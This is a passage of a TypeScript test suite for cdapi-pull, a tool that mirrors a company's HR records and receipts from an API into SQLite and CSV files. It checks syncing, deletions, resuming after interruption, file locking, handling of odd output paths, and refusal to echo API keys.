import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { text as streamText } from 'node:stream/consumers';
import { describe, it, type TestContext } from 'node:test';
import { csvField } from '../../client/src/pull/csv.ts';
import { onThisMachine } from '../../client/src/pull/main.ts';
import { lineProgress, terminalProgress } from '../../client/src/pull/progress.ts';
import { DEFAULT_DEMO_EMPLOYEES } from '../../src/demo/context.ts';
import { createDemoCompany } from '../../src/demo/demo.ts';
import { FileReceiptStore } from '../../src/receipts/fs-store.ts';
import { useApi } from '../helpers/api.ts';
import { runWithOutputClosed } from '../helpers/cli.ts';
import { useTempDir } from '../helpers/databases.ts';
import { listenApi } from '../helpers/listen.ts';
import {
  clientOf,
  listsAndMirror,
  PULL,
  readMirror,
  runPull,
  runPullOnTerminal,
  startPull,
} from '../helpers/pull.ts';
import {
  category,
  company,
  employee,
  expense,
  leave,
  leaveType,
  writeJpeg,
} from '../helpers/records.ts';
import { freePort } from '../helpers/serve.ts';

const EMPLOYEES = 60;
const LEAVES = 150;
const EXPENSES = 90;
const TOTAL = EMPLOYEES + 2 + LEAVES + 2 + EXPENSES;

type Fields = Record<string, unknown>;

function companyRecords(): Fields[] {
  const records: Fields[] = [company(1), leaveType(1, 1), leaveType(1, 2), category(1, 1)];
  records.push(category(1, 2, { name: 'Meals' }));
  for (let id = 1; id <= EMPLOYEES; id++) records.push(employee(1, id));
  for (let id = 1; id <= LEAVES; id++) records.push(leave(1, id, (id % EMPLOYEES) + 1, 1));
  for (let id = 1; id <= EXPENSES; id++)
    records.push(
      expense(1, id, (id % EMPLOYEES) + 1, (id % 2) + 1, {
        receipt: id <= 3 ? { original: 'photo.jpg' } : null,
      }),
    );
  // Another company, which no pull of company 1 may see.
  records.push(company(2), employee(2, 1000), leaveType(2, 1000), leave(2, 1000, 1000, 1000));
  return records;
}

const remove = (resource: string, id: number) => ({ type: 'delete', resource, company_id: 1, id });

/** Updates, deletions (an employee with the leaves and expenses that point at it first), a leave type made inactive. */
function changeRecords(): Fields[] {
  const gone = 7;
  const leavesOfGone = Array.from({ length: LEAVES }, (_, i) => i + 1).filter(
    (id) => (id % EMPLOYEES) + 1 === gone,
  );
  const expensesOfGone = Array.from({ length: EXPENSES }, (_, i) => i + 1).filter(
    (id) => (id % EMPLOYEES) + 1 === gone,
  );
  return [
    employee(1, 3, { last_name: 'Changed', updated_at: '2026-04-01T09:00:00Z' }),
    leave(1, 10, 11, 1, { status: 'cancelled', updated_at: '2026-04-01T09:00:00Z' }),
    expense(1, 1, 2, 2, {
      title: 'Changed',
      receipt: { original: 'photo.jpg' },
      updated_at: '2026-04-01T09:00:00Z',
    }),
    leaveType(1, 2, { active: false }),
    ...leavesOfGone.map((id) => remove('leave', id)),
    ...expensesOfGone.map((id) => remove('expense', id)),
    remove('employee', gone),
    remove('leave', 20),
    remove('expense', 3),
  ];
}

/** The company served over HTTP, a key, and hooks that watch the change feed and the receipts. */
/**
 * A run writing `out` that never gets its first page (its service never answers), once it holds
 * its lock (`lock`, beside the file's real path); killed when the test ends.
 */
async function stuckPull(t: TestContext, out: string, key: string, lock = `${out}.lock`) {
  const stuck = startPull(['--base-url', await silentService(t), '--out', out], key);
  t.after(() => stuck.kill('SIGKILL'));
  while (!existsSync(lock)) await new Promise((resolve) => setTimeout(resolve, 20));
  return stuck;
}

/** The base URL of a service that takes connections and never answers. */
async function silentService(t: TestContext): Promise<string> {
  const silent = createServer(() => {}).listen(0, '127.0.0.1');
  await once(silent, 'listening');
  t.after(() => silent.close());
  return `http://127.0.0.1:${(silent.address() as AddressInfo).port}/api/company/v1`;
}

async function pullSetup(t: TestContext, options: { perMinute?: number; demo?: boolean } = {}) {
  const api = await useApi(t, 'sqlite');
  await writeJpeg(api.dir, 'photo.jpg', 300, 200);
  await api.load(companyRecords());
  const demo = options.demo
    ? await createDemoCompany(api.handle, new FileReceiptStore(api.config.receiptsDir), {
        employees: DEFAULT_DEMO_EMPLOYEES,
      })
    : null;
  const seen = {
    changes: 0,
    receipts: 0,
    tooMany: 0,
    /** The Content-Encoding of each change-feed answer ('identity' when none). */
    changeEncodings: new Set<string>(),
    onChanges: (_count: number) => {},
    /** Awaited before the change feed answers its `count`th request. */
    beforeChanges: async (_count: number) => {},
    /** How many of the next receipt files a captive portal's page answers instead. */
    portalPages: 0,
  };
  let changesAsked = 0;
  api.app.addHook('preHandler', async (request) => {
    if ((request.routeOptions.url ?? '').endsWith('/changes')) {
      await seen.beforeChanges(++changesAsked);
    }
  });
  api.app.addHook('onResponse', async (request, reply) => {
    const route = request.routeOptions.url ?? '';
    if (reply.statusCode === 429) seen.tooMany += 1;
    if (route.endsWith('/changes')) {
      seen.changeEncodings.add(String(reply.getHeader('content-encoding') ?? 'identity'));
      seen.onChanges(++seen.changes);
    }
    if (route.endsWith('/receipt')) seen.receipts += 1;
  });
  api.app.addHook('onSend', async (request, reply, payload) => {
    if (!request.url.includes('/receipt-files/') || seen.portalPages === 0) return payload;
    seen.portalPages -= 1;
    reply.header('content-type', 'text/html; charset=utf-8').removeHeader('content-length');
    return '<html><body>Sign in to the guest Wi-Fi</body></html>';
  });
  const base = await listenApi(api);
  const key = demo?.key ?? (await api.createKey(1, { perMinute: options.perMinute }));
  const dir = useTempDir(t);
  const out = join(dir, 'mirror.sqlite');
  return { api, base, key, dir, out, seen, client: clientOf(base, key) };
}

describe('cdapi-pull', () => {
  it('mirrors the company, then applies an import’s updates and deletions on the next run', async (t) => {
    const { api, base, key, out, client } = await pullSetup(t);
    const first = await runPull(['--base-url', base, '--out', out, '--json'], key);
    assert.equal(first.code, 0, first.stderr);
    const summary = JSON.parse(first.stdout);
    assert.deepEqual(Object.keys(summary), ['upserts', 'deletes', 'cursor', 'seconds']);
    assert.equal(summary.upserts, TOTAL);
    assert.equal(summary.deletes, 0);
    assert.equal(readMirror(out).state.cursor, summary.cursor);
    // Whole numbers and booleans are stored as INTEGER, not as REAL (1.0).
    const file = new DatabaseSync(out, { readOnly: true });
    assert.deepEqual(
      file
        .prepare(
          'SELECT DISTINCT typeof(id) AS id, typeof(has_receipt) AS has_receipt FROM expenses',
        )
        .all()
        .map((row) => ({ ...row })),
      [{ id: 'integer', has_receipt: 'integer' }],
    );
    file.close();
    let compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
    assert.equal(compared.mirror.employees?.length, EMPLOYEES);
    // Plain lines, not a bar, when stderr is not a terminal.
    assert.match(first.stderr, new RegExp(`^cdapi-pull: pulling records \\(about ${TOTAL}\\)\\n`));
    assert.match(first.stderr, new RegExp(`cdapi-pull: ${TOTAL} records in \\d+\\.\\d s\\n$`));
    assert.doesNotMatch(first.stderr, /\r/);

    const changes = changeRecords();
    await api.load(changes);
    const second = await runPull(['--base-url', base, '--out', out, '--json'], key);
    assert.equal(second.code, 0, second.stderr);
    const deletions = changes.filter((line) => line.type === 'delete').length;
    assert.deepEqual(
      { ...JSON.parse(second.stdout), seconds: 0, cursor: null },
      // The three records changed, and the 3 leaves and 2 expenses that embed employee 3; the
      // deletions, and the leave type that left its list.
      { upserts: 3 + 5, deletes: deletions + 1, cursor: null, seconds: 0 },
    );
    compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
    const { tables } = readMirror(out);
    assert.equal(tables.employees?.find((row) => row.id === 3)?.full_name, 'Ayşe Changed');
    assert.equal(
      tables.employees?.find((row) => row.id === 7),
      undefined,
    );
    // Overwritten in the file, not only unlinked (an employee's right to erasure).
    const bytes = Buffer.concat(
      [out, `${out}-wal`].filter((path) => existsSync(path)).map((path) => readFileSync(path)),
    );
    const text = bytes.toString('latin1');
    assert.doesNotMatch(text, /(?<!\d)e7@example\.test/);
    assert.match(text, /(?<!\d)e8@example\.test/);
    assert.deepEqual(
      tables.leave_types?.map((row) => row.id),
      [1],
    );

    // A first run now meets deletions of records it never held: it counts none of them, in its
    // progress as in its summary.
    const fresh = await runPull(['--base-url', base, '--out', `${out}-fresh`, '--json'], key);
    const freshSummary = JSON.parse(fresh.stdout);
    assert.equal(freshSummary.deletes, 0);
    assert.match(
      fresh.stderr,
      new RegExp(`cdapi-pull: ${freshSummary.upserts} records in \\d+\\.\\d s\\n`),
    );

    const third = await runPull(['--base-url', base, '--out', out, '--json'], key);
    assert.deepEqual(
      { ...JSON.parse(third.stdout), seconds: 0 },
      { upserts: 0, deletes: 0, cursor: readMirror(out).state.cursor, seconds: 0 },
    );
  });

  it('asks for compressed answers unless the service is on this machine; --compress and --no-compress decide', async (t) => {
    const { base, key, out, seen, client } = await pullSetup(t);
    assert.match(base, /^http:\/\/127\.0\.0\.1:/);
    const runs: Array<[string[], string]> = [
      [[], 'identity'],
      [['--compress'], 'gzip'],
      [['--no-compress'], 'identity'],
    ];
    for (const [i, [flags, encoding]] of runs.entries()) {
      const file = join(dirname(out), `mirror-${i}.sqlite`);
      seen.changeEncodings.clear();
      const run = await runPull(['--base-url', base, '--out', file, ...flags, '--json'], key);
      assert.equal(run.code, 0, run.stderr);
      assert.deepEqual([...seen.changeEncodings], [encoding], flags.join(' ') || 'no flag');
      const compared = await listsAndMirror(client, file);
      assert.deepEqual(compared.mirror, compared.service);
    }
    const both = await runPull(
      ['--base-url', base, '--out', out, '--compress', '--no-compress'],
      key,
    );
    assert.deepEqual(
      { code: both.code, stderr: both.stderr.split('\n')[0] },
      { code: 2, stderr: 'cdapi-pull: --compress and --no-compress: give one of them' },
    );

    const thisMachine = [
      'http://localhost:8080/api/company/v1',
      'http://LOCALHOST/api/company/v1',
      'http://api.localhost/api/company/v1',
      'http://127.0.0.1:8080/api/company/v1',
      'http://127.10.0.2/api/company/v1',
      'http://[::1]:8080/api/company/v1',
    ];
    const elsewhere = [
      'https://api.example.com/api/company/v1',
      'http://10.0.0.5:8080/api/company/v1',
      'http://127.example.com/api/company/v1',
      'http://localhost.example.com/api/company/v1',
      'http://[::2]/api/company/v1',
    ];
    assert.deepEqual(
      thisMachine.filter((url) => !onThisMachine(url)),
      [],
    );
    assert.deepEqual(elsewhere.filter(onThisMachine), []);
  });

  it('pulls the whole company when its output is piped to a reader that has gone (| head)', async (t) => {
    const { base, key, out, client } = await pullSetup(t);
    const { status, stderr } = await runWithOutputClosed(
      PULL,
      ['--base-url', base, '--out', out, '--json'],
      { CDAPI_KEY: key },
    );
    assert.equal(status, 0, stderr);
    assert.doesNotMatch(stderr, /EPIPE|Error/);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('ends with the same mirror when a run is killed half way and run again', async (t) => {
    const { base, key, out, seen, client } = await pullSetup(t);
    const child = startPull(['--base-url', base, '--out', out, '--page-size', '5'], key);
    seen.onChanges = (count) => {
      if (count === 10) child.kill('SIGKILL');
    };
    await once(child, 'exit');
    const halfWay = readMirror(out);
    const pulled = Object.values(halfWay.tables).reduce((sum, rows) => sum + rows.length, 0);
    assert.ok(pulled > 0 && pulled < TOTAL, `killed half way: ${pulled} of ${TOTAL} records`);
    assert.ok(halfWay.state.cursor, 'the cursor of the last committed page is stored');
    // A run that cannot reach the service says the next one goes on from there.
    const port = await freePort();
    const unreachable = await runPull(
      ['--base-url', `http://127.0.0.1:${port}/api/company/v1`, '--out', out],
      key,
    );
    assert.equal(unreachable.code, 1);
    assert.match(
      unreachable.stderr,
      /; once it answers, run again to go on from the last page written\n$/,
    );

    const rerun = await runPull(
      ['--base-url', base, '--out', out, '--page-size', '50', '--no-compress', '--json'],
      key,
    );
    assert.equal(rerun.code, 0, rerun.stderr);
    assert.equal(JSON.parse(rerun.stdout).upserts, TOTAL - pulled, 'it resumed, not restarted');
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  for (const [signal, status] of [
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const) {
    it(`stops on ${signal} between pages with exit code ${status}, says so, and resumes from there`, async (t) => {
      const { base, key, out, seen, client } = await pullSetup(t);
      const child = startPull(['--base-url', base, '--out', out, '--page-size', '5'], key);
      seen.onChanges = (count) => {
        if (count === 10) child.kill(signal);
      };
      const [[code], stderr] = await Promise.all([once(child, 'exit'), streamText(child.stderr)]);
      assert.equal(code, status);
      assert.match(
        stderr,
        new RegExp(
          `cdapi-pull: interrupted by ${signal}: the next run goes on from the last page written\n$`,
        ),
      );
      const rerun = await runPull(['--base-url', base, '--out', out], key);
      assert.equal(rerun.code, 0, rerun.stderr);
      const compared = await listsAndMirror(client, out);
      assert.deepEqual(compared.mirror, compared.service);
    });
  }

  it('counts as deletes only the rows it removed: a first run meets deletions of records it never had', async (t) => {
    const { api, base, key, out, client } = await pullSetup(t);
    await api.load(changeRecords());
    const first = await runPull(['--base-url', base, '--out', out, '--json'], key);
    assert.equal(first.code, 0, first.stderr);
    assert.equal(JSON.parse(first.stdout).deletes, 0);
    assert.doesNotMatch(first.stderr, /rewriting the file/, 'no employee of the file was erased');
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('leaves no file nor folder when Ctrl-C ends a first run before its first page', async (t) => {
    const dir = useTempDir(t);
    const out = join(dir, 'mirror.sqlite');
    const child = startPull(
      [
        '--base-url',
        await silentService(t),
        '--out',
        out,
        '--csv',
        join(dir, 'exports', 'csv'),
        '--receipts',
        join(dir, 'receipts'),
      ],
      'cdk_x',
    );
    while (!existsSync(out)) await new Promise((resolve) => setTimeout(resolve, 20));
    child.kill('SIGINT');
    const [code] = await once(child, 'exit');
    assert.equal(code, 130);
    assert.deepEqual(readdirSync(dirname(out)), []);
  });

  it('leaves the link and no file when a first run through a link to a file not made yet fails', async (t) => {
    const { base, dir } = await pullSetup(t);
    const target = join(dir, 'target.sqlite');
    const link = join(dir, 'link.sqlite');
    symlinkSync(target, link);
    const refused = await runPull(['--base-url', base, '--out', link], 'cdk_wrong');
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /401|unauthorized/i);
    assert.deepEqual(readdirSync(dir).sort(), ['link.sqlite']);
    assert.equal(lstatSync(link).isSymbolicLink(), true, 'the link stays');
  });

  it('refuses a second run on a file another run is writing, and takes over from a killed one', async (t) => {
    const { base, key, out, client } = await pullSetup(t);
    const stuck = await stuckPull(t, out, key);
    const second = await runPull(['--base-url', base, '--out', out], key);
    assert.equal(second.code, 1);
    assert.equal(
      second.stderr,
      `cdapi-pull: another cdapi-pull (process ${stuck.pid}) is writing ${out}: let it finish, then run again\n`,
    );
    stuck.kill('SIGKILL');
    await once(stuck, 'exit');
    const third = await runPull(['--base-url', base, '--out', out], key);
    assert.equal(third.code, 0, third.stderr);
    assert.equal(existsSync(`${out}.lock`), false);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('refuses a second run through a symbolic link to the file, and takes over a lock whose process id another process has now', async (t) => {
    const { base, key, out, dir, client } = await pullSetup(t);
    const stuck = await stuckPull(t, out, key);
    const link = join(dir, 'link.sqlite');
    symlinkSync(out, link);
    const through = await runPull(['--base-url', base, '--out', link], key);
    assert.equal(through.code, 1);
    assert.match(through.stderr, new RegExp(`another cdapi-pull \\(process ${stuck.pid}\\)`));
    stuck.kill('SIGKILL');
    await once(stuck, 'exit');

    // A lock left by a killed run whose process id now belongs to a running process (this
    // test's own), started at another time than the lock says.
    const [pid, startedAt] = readFileSync(`${out}.lock`, 'utf8').trim().split(' ');
    assert.equal(Number(pid), stuck.pid);
    assert.match(startedAt ?? '', /^\d+$/, 'on Linux, the lock holds the start time too');
    writeFileSync(`${out}.lock`, `${process.pid} ${Number(startedAt) + 1}\n`);
    const taken = await runPull(['--base-url', base, '--out', link], key);
    assert.equal(taken.code, 0, taken.stderr);
    assert.equal(existsSync(`${out}.lock`), false);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('refuses a file with hard links (SQLite keeps a write-ahead log beside each name)', async (t) => {
    const { base, key, out, dir, client } = await pullSetup(t);
    assert.equal((await runPull(['--base-url', base, '--out', out], key)).code, 0);
    const link = join(dir, 'hard-link.sqlite');
    linkSync(out, link);
    const before = readFileSync(out);
    for (const name of [out, link]) {
      const run = await runPull(['--base-url', base, '--out', name], key);
      assert.equal(run.code, 1, name);
      assert.equal(
        run.stderr,
        `cdapi-pull: ${name} has 2 names (hard links): SQLite cannot keep one write-ahead log for them, and a run through another name would corrupt it; remove the other links (a symbolic link is fine)\n`,
      );
    }
    assert.deepEqual(readFileSync(out), before, 'the file is untouched');
    assert.equal(existsSync(`${out}.lock`), false);
    rmSync(link);
    // What is not a file where the lock goes is named: not taken for another run making the
    // lock, nor read (a named pipe would block the read for good).
    for (const [kind, make] of [
      ['a folder', () => mkdirSync(`${out}.lock`)],
      ['a symbolic link', () => symlinkSync('/nonexistent/lock', `${out}.lock`)],
      ['a named pipe', () => execFileSync('mkfifo', [`${out}.lock`])],
    ] as const) {
      make();
      const blocked = await runPull(['--base-url', base, '--out', out], key);
      assert.equal(blocked.code, 1, kind);
      assert.equal(
        blocked.stderr,
        `cdapi-pull: ${out}.lock is ${kind}, where cdapi-pull keeps the lock of ${out}: move it away, then run again\n`,
      );
      rmSync(`${out}.lock`, { recursive: true });
    }
    assert.equal((await runPull(['--base-url', base, '--out', out], key)).code, 0);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('finds one lock through a link to a file not made yet, and takes over a pid-only lock whose pid is no cdapi-pull', async (t) => {
    const { base, key, dir, client } = await pullSetup(t);
    const target = join(dir, 'target.sqlite');
    const dangling = join(dir, 'dangling.sqlite');
    symlinkSync(target, dangling);
    const stuck = await stuckPull(t, dangling, key, `${target}.lock`);
    for (const out of [target, dangling]) {
      const second = await runPull(['--base-url', base, '--out', out], key);
      assert.equal(second.code, 1, out);
      assert.match(second.stderr, /another cdapi-pull/);
    }
    stuck.kill('SIGKILL');
    await once(stuck, 'exit');

    // The release before wrote the pid alone; that pid is now another program's.
    const sleeper = spawn('sleep', ['60']);
    t.after(() => sleeper.kill('SIGKILL'));
    writeFileSync(`${target}.lock`, `${sleeper.pid}\n`);
    const taken = await runPull(['--base-url', base, '--out', target], key);
    assert.equal(taken.code, 0, taken.stderr);
    const compared = await listsAndMirror(client, target);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('starts again from the beginning when the stored cursor has expired (410)', async (t) => {
    const { api, base, key, out, client } = await pullSetup(t);
    assert.equal((await runPull(['--base-url', base, '--out', out], key)).code, 0);
    await api.load([remove('expense', 90)]);
    // An import that keeps no deletion forgets that one: the stored cursor is now too old.
    await api.load([employee(1, 1, { last_name: 'Later' })], { changesRetentionDays: 0 });
    const rerun = await runPull(['--base-url', base, '--out', out, '--json'], key);
    assert.equal(rerun.code, 0, rerun.stderr);
    assert.match(
      rerun.stderr,
      /cdapi-pull: the stored cursor has expired: pulling again from the beginning\n/,
    );
    assert.equal(JSON.parse(rerun.stdout).upserts, TOTAL - 1);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
    assert.equal(
      readMirror(out).tables.expenses?.find((row) => row.id === 90),
      undefined,
    );
  });

  it('starts again from the beginning when the cursor expires mid-run, and counts what the file holds', async (t) => {
    const { api, base, key, out, client, seen } = await pullSetup(t);
    await api.load([remove('expense', 90)]);
    // The first run's third page is asked for after an import forgot that deletion, which
    // comes after the cursor of the pages it read.
    seen.beforeChanges = async (count) => {
      if (count === 3)
        await api.load([employee(1, 1, { last_name: 'Later' })], { changesRetentionDays: 0 });
    };
    const run = await runPull(
      ['--base-url', base, '--out', out, '--json', '--page-size', '5'],
      key,
    );
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stderr, /the stored cursor has expired: pulling again from the beginning/);
    const summary = JSON.parse(run.stdout);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
    const rows = Object.values(readMirror(out).tables).reduce(
      (sum, table) => sum + table.length,
      0,
    );
    assert.deepEqual([summary.upserts, summary.deletes], [rows, 0]);
    // The progress counts the pull again from the beginning too, as the summary does.
    const counted = run.stderr.match(/cdapi-pull: ([\d,]+) records in [\d.]+ s\n/g) ?? [];
    assert.equal(counted.at(-1)?.split(' ')[1], rows.toLocaleString('en-US'));
  });

  it('stores no receipt that is not an image, and downloads it on the next run', async (t) => {
    const { base, key, dir, out, seen } = await pullSetup(t);
    const receipts = join(dir, 'receipts');
    const args = ['--base-url', base, '--out', out, '--receipts', receipts];
    seen.portalPages = 1;
    const portal = await runPull(args, key);
    assert.equal(portal.code, 1);
    assert.match(
      portal.stderr,
      /\ncdapi-pull: receipt of expense \d+: the receipt's URL answered text\/html; charset=utf-8, not an image \(a proxy's page\?\); nothing stored\n$/,
    );
    // The folder it made is removed while it is still empty (the first receipt failed).
    assert.ok(!existsSync(receipts) || readdirSync(receipts).length < 3);
    const next = await runPull(args, key);
    assert.equal(next.code, 0, next.stderr);
    assert.deepEqual(readdirSync(receipts).sort(), ['1.jpg', '2.jpg', '3.jpg']);
    for (const name of readdirSync(receipts)) {
      assert.deepEqual([...readFileSync(join(receipts, name)).subarray(-2)], [0xff, 0xd9], name);
    }
  });

  it('downloads each receipt once, again when its expense changed, and removes a deleted one’s; writes CSV files', async (t) => {
    const { api, base, key, dir, out, seen, client } = await pullSetup(t);
    const receipts = join(dir, 'receipts');
    const csv = join(dir, 'csv');
    const args = ['--base-url', base, '--out', out, '--receipts', receipts, '--csv', csv];
    assert.equal((await runPull(args, key)).code, 0);
    assert.deepEqual(readdirSync(receipts).sort(), ['1.jpg', '2.jpg', '3.jpg']);
    assert.equal(seen.receipts, 3);

    assert.equal((await runPull(args, key)).code, 0);
    assert.equal(seen.receipts, 3, 'nothing changed, nothing downloaded again');

    await api.load(changeRecords());
    assert.equal((await runPull(args, key)).code, 0);
    assert.deepEqual(readdirSync(receipts).sort(), ['1.jpg', '2.jpg']);
    // Expense 1 changed; expense 2 came again for its employee (3), whose name changed: its
    // image may have changed too, unseen.
    assert.equal(seen.receipts, 5, 'only the receipts of the expenses the feed brought again');
    assert.deepEqual(
      readFileSync(join(receipts, '1.jpg')),
      Buffer.from((await client.expenses.receipt(1)).data),
    );

    // A new image under the same `updated_at` (the source's own), in the import that also
    // changes the employee it embeds: fetched again all the same.
    await writeJpeg(api.dir, 'other.jpg', 120, 80);
    const before = readFileSync(join(receipts, '2.jpg'));
    // Expense 2 as companyRecords() has it, but for its receipt.
    await api.load([
      employee(1, 3, {
        last_name: 'Changed',
        department: 'Audit',
        updated_at: '2026-04-01T09:00:00Z',
      }),
      expense(1, 2, 3, 1, { receipt: { original: 'other.jpg' } }),
    ]);
    const asked = seen.receipts; // the test's own request above counts too
    assert.equal((await runPull(args, key)).code, 0);
    assert.equal(seen.receipts, asked + 1);
    assert.notDeepEqual(readFileSync(join(receipts, '2.jpg')), before);
    assert.deepEqual(
      readFileSync(join(receipts, '2.jpg')),
      Buffer.from((await client.expenses.receipt(2)).data),
    );

    const lines = readFileSync(join(csv, 'expenses.csv'), 'utf8').split('\r\n');
    assert.match(lines[0] ?? '', /^id,/);
    assert.equal(lines.length - 2, readMirror(out).tables.expenses?.length);
    assert.deepEqual(readdirSync(csv).sort(), [
      'employees.csv',
      'expense_categories.csv',
      'expenses.csv',
      'leave_types.csv',
      'leaves.csv',
    ]);
  });

  it('fails at once with a one-line reason, not for ever, when a folder cannot be made (under /proc)', {
    skip: process.platform !== 'linux' && 'no /proc on this system',
  }, async (t) => {
    const { base, key, out } = await pullSetup(t);
    // Node's own recursive mkdir spins at a full core on such a path and never returns.
    for (const [option, folder] of [
      ['--csv', '/proc/cdapi-pull-test/csv'],
      ['--receipts', '/proc/cdapi-pull-test/receipts'],
    ] as const) {
      const run = await runPull(['--base-url', base, '--out', out, option, folder], key);
      assert.equal(run.code, 1, `${option}: ${run.stderr}`);
      assert.equal(
        run.stderr,
        `cdapi-pull: ${option} ${folder}: cannot make the folder: ENOENT: no such file or directory, mkdir '/proc/cdapi-pull-test'\n`,
      );
    }
    assert.equal(existsSync(out), false, 'before the pull');
  });

  it('refuses a key given as an argument without printing it, a base URL that is not the API’s with a hint and no file, and another program’s SQLite file untouched', async (t) => {
    const { base, key, dir, out } = await pullSetup(t);
    const withKey = await runPull(['--base-url', base, '--out', out, key], key);
    assert.equal(withKey.code, 2);
    assert.match(withKey.stderr, /^cdapi-pull: an API key is never taken as an argument/);
    assert.equal(withKey.stderr.includes(key), false, withKey.stderr);
    // Pasted with text around it: a header line, a list, a URL.
    for (const arg of [
      `Authorization: Bearer ${key}`,
      `${key},leave`,
      `not a url ${key}`,
      `/tmp/${key}.sqlite`,
    ]) {
      const pasted = await runPull(['--base-url', base, '--out', out, '--resources', arg], key);
      assert.equal(pasted.code, 2, arg);
      assert.match(pasted.stderr, /^cdapi-pull: an API key is never taken as an argument/);
      assert.equal(pasted.stderr.includes(key.slice(4, 12)), false, pasted.stderr);
    }

    // A value given twice is refused, not the last one taken.
    const twice = await runPull(['--base-url', base, '--out', out, '--out', `${out}.2`], key);
    assert.equal(twice.code, 2);
    assert.match(twice.stderr, /^cdapi-pull: --out is given twice: give it once\n/);

    // A page that is not JSON (a portal's, a proxy's) is told as such, with a hint.
    const portal = createServer((socket) => {
      socket.once('data', () =>
        socket.end(
          'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 21\r\n\r\n<html>captive</html>\n',
        ),
      );
    }).listen(0, '127.0.0.1');
    await once(portal, 'listening');
    t.after(() => portal.close());
    const portalBase = `http://127.0.0.1:${(portal.address() as AddressInfo).port}/api/company/v1`;
    const html = await runPull(['--base-url', portalBase, '--out', out], key);
    assert.equal(html.code, 1);
    assert.match(
      html.stderr,
      /^cdapi-pull: an answer of the service is not JSON \(.+\): is --base-url the API's base, and nothing in between \(a proxy's or a portal's page\)\?\n$/,
    );

    const folders = join(dir, 'exports');
    const wrong = await runPull(
      [
        '--base-url',
        base.replace(/\/api\/company\/v1$/, ''),
        '--out',
        out,
        '--csv',
        join(folders, 'csv'),
        '--receipts',
        join(folders, 'receipts'),
      ],
      key,
    );
    assert.equal(wrong.code, 1);
    assert.match(
      wrong.stderr,
      /^cdapi-pull: 404 not_found: .+ Is --base-url the API's base, ending in \/api\/company\/v1 \(http:\/\/127\.0\.0\.1:\d+\)\? \(request [\w-]+\)\n$/,
    );
    assert.equal(existsSync(out), false, 'no empty file left behind');
    assert.equal(existsSync(folders), false, 'nor the folders it made');

    const other = join(dir, 'other.sqlite');
    const file = new DatabaseSync(other);
    file.exec('CREATE TABLE employees (id INTEGER PRIMARY KEY, company_id INTEGER NOT NULL)');
    file.close();
    const foreign = await runPull(['--base-url', base, '--out', other], key);
    assert.equal(foreign.code, 1);
    assert.equal(
      foreign.stderr,
      `cdapi-pull: the output file ${other} holds other tables (employees), not a cdapi-pull mirror: use another file\n`,
    );
    const after = new DatabaseSync(other, { readOnly: true });
    assert.deepEqual(
      after
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table'")
        .all()
        .map((row) => row.name),
      ['employees'],
    );
    assert.equal(after.prepare('PRAGMA journal_mode').get()?.journal_mode, 'delete');
    after.close();

    // A file that is no database at all is named, and left as it was.
    const notes = join(dir, 'notes.sqlite');
    writeFileSync(notes, 'not a database, a text file\n');
    const text = await runPull(['--base-url', base, '--out', notes], key);
    assert.equal(text.code, 1);
    assert.equal(
      text.stderr,
      `cdapi-pull: cannot open the output file ${notes}: file is not a database\n`,
    );
    assert.equal(readFileSync(notes, 'utf8'), 'not a database, a text file\n');
  });

  it('takes the base URL however its scheme and host are spelled, and refuses a file as a folder', async (t) => {
    const { base, key, out } = await pullSetup(t);
    assert.equal((await runPull(['--base-url', base, '--out', out], key)).code, 0);
    const spelled = `${base.replace(/^http:/, 'HTTP:')}/`;
    const again = await runPull(['--base-url', spelled, '--out', out], key);
    assert.equal(again.code, 0, again.stderr);
    for (const option of ['--csv', '--receipts']) {
      const run = await runPull(['--base-url', base, '--out', out, option, out], key);
      assert.equal(run.code, 1);
      assert.equal(
        run.stderr,
        `cdapi-pull: ${option} ${out}: a file, not a folder: name a folder (made if missing)\n`,
      );
    }
    // And --out a folder, or in a folder that does not exist, says which.
    const folder = dirname(out);
    const missing = join(folder, 'no-such', 'deeper', 'x.sqlite');
    // A named pipe (or a device: /dev/null), refused before SQLite makes its journal beside it.
    const pipe = join(folder, 'pipe');
    execFileSync('mkfifo', [pipe]);
    for (const [target, reason] of [
      [folder, 'it is a folder'],
      [missing, `its folder ${dirname(missing)} does not exist`],
      [pipe, 'it is a named pipe, not a file'],
    ] as const) {
      const run = await runPull(['--base-url', base, '--out', target], key);
      assert.equal(run.code, 1);
      assert.equal(run.stderr, `cdapi-pull: cannot open the output file ${target}: ${reason}\n`);
    }
    assert.deepEqual(
      readdirSync(folder).filter((name) => name.startsWith('pipe')),
      ['pipe'],
    );
  });

  it('refuses a receipts or CSV folder this user may not write before it pulls anything', async (t) => {
    const { base, key, dir } = await pullSetup(t);
    // Root writes any folder: the run is then made as nobody (65534), in a folder all may write.
    const user = process.getuid?.() === 0 ? { user: 65534 } : {};
    chmodSync(dir, 0o755);
    const open = join(dir, 'open');
    mkdirSync(open);
    chmodSync(open, 0o777);
    const closed = join(open, 'closed');
    mkdirSync(closed);
    chmodSync(closed, 0o555);
    const out = join(open, 'mirror.sqlite');
    for (const option of ['--receipts', '--csv']) {
      const run = await runPull(['--base-url', base, '--out', out, option, closed], key, user);
